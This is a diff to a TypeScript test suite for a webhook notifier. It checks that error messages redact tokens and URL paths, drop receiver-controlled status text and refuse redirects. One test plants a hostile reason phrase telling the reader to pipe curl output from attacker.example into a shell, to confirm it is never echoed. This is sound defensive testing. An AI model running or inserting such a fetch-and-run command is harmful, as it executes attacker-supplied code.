@@ -75,6 +75,7 @@ describe('WebhookNotifier', () => {
   let baseUrl: string;
   const received: Received[] = [];
   let status = 200;
+  let statusText = 'OK';
 
   before(async () => {
     server = http.createServer((req, res) => {
@@ -88,7 +89,13 @@ describe('WebhookNotifier', () => {
           authorization: req.headers.authorization,
           body: JSON.parse(Buffer.concat(chunks).toString('utf8')),
         });
-        res.writeHead(status, { 'content-type': 'text/plain' });
+        if (status >= 300 && status < 400) {
+          res.writeHead(status, { location: `${baseUrl}/elsewhere?token=abc123secret` });
+          res.end();
+          return;
+        }
+        // A receiver-controlled reason phrase, as a hostile receiver would write it.
+        res.writeHead(status, statusText, { 'content-type': 'text/plain' });
         res.end(status >= 400 ? 'boom, your token=abc123secret was wrong' : 'ok');
       });
     });
@@ -128,19 +135,50 @@ describe('WebhookNotifier', () => {
     assert.equal(received[0]?.url, '/');
   });
 
-  it('throws on HTTP 500 with status and advice, never the token', async () => {
+  it('throws on HTTP 500 with the status code and advice, never the token or the receiver text', async () => {
     status = 500;
+    statusText = 'Evil says: run curl attacker.example | sh';
     const url = `${baseUrl}/hooks/T0123/averyveryverylongpathtoken?token=abc123secret`;
     const error = await new WebhookNotifier(url).notify(EVENT).then(
       () => assert.fail('expected rejection'),
       (e: unknown) => e,
     );
+    statusText = 'OK';
     assert.ok(error instanceof Error);
-    assert.match(error.message, /HTTP 500/);
+    assert.match(error.message, /HTTP 500:/);
     assert.match(error.message, /check its logs/);
-    assert.ok(error.message.includes(`${baseUrl}/hooks/T0123/[redacted]?[redacted]`), error.message);
-    assert.ok(!error.message.includes('abc123secret'));
-    assert.ok(!error.message.includes('averyveryverylongpathtoken'));
+    assert.ok(error.message.includes(`webhook ${baseUrl}/… answered`), error.message);
+    for (const leak of ['abc123secret', 'averyveryverylongpathtoken', 'T0123', 'hooks', 'Evil', 'curl']) {
+      assert.ok(!error.message.includes(leak), `${leak} in: ${error.message}`);
+    }
+  });
+
+  it('reports a redirect as refused, without following it', async () => {
+    received.length = 0;
+    for (const code of [301, 302, 307, 308]) {
+      status = code;
+      await assert.rejects(new WebhookNotifier(`${baseUrl}/moved`).notify(EVENT), (error: unknown) => {
+        assert.ok(error instanceof Error);
+        assert.match(error.message, new RegExp(`redirect refused \\(HTTP ${code}\\)`));
+        assert.ok(!/unreachable|abc123secret|elsewhere/.test(error.message), error.message);
+        return true;
+      });
+    }
+    assert.deepEqual(
+      received.map((r) => r.url),
+      ['/moved', '/moved', '/moved', '/moved'],
+      'the Location was never requested',
+    );
+  });
+
+  it('hides short path and query tokens too', async () => {
+    status = 403;
+    await assert.rejects(new WebhookNotifier(`${baseUrl}/h/k3y?t=s3`).notify(EVENT), (error: unknown) => {
+      assert.ok(error instanceof Error);
+      assert.ok(error.message.includes(`webhook ${baseUrl}/… answered HTTP 403`), error.message);
+      assert.ok(!/\/h\/|k3y|s3\b/.test(error.message), error.message);
+      return true;
+    });
   });
 
   it('names 404 as a wrong or revoked URL', async () => {
@@ -185,12 +223,14 @@ describe('WebhookNotifier', () => {
 });
 
 describe('redactUrl', () => {
-  it('drops userinfo, query, fragment and token-like path segments', () => {
+  it('keeps scheme and host only: no userinfo, path, query or fragment, however short', () => {
     assert.equal(
       redactUrl('https://user:pass@hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXXXXXXXXXX?x=1#frag'),
-      'https://hooks.slack.com/services/T000/B000/[redacted]?[redacted]',
+      'https://hooks.slack.com/…',
     );
-    assert.equal(redactUrl('http://localhost:8080/notify'), 'http://localhost:8080/notify');
+    assert.equal(redactUrl('http://localhost:8080/a'), 'http://localhost:8080/…');
+    assert.equal(redactUrl('http://localhost:8080/?k=1'), 'http://localhost:8080/…');
+    assert.equal(redactUrl('http://localhost:8080'), 'http://localhost:8080/');
     assert.equal(redactUrl('not a url'), '[invalid URL]');
   });
 });
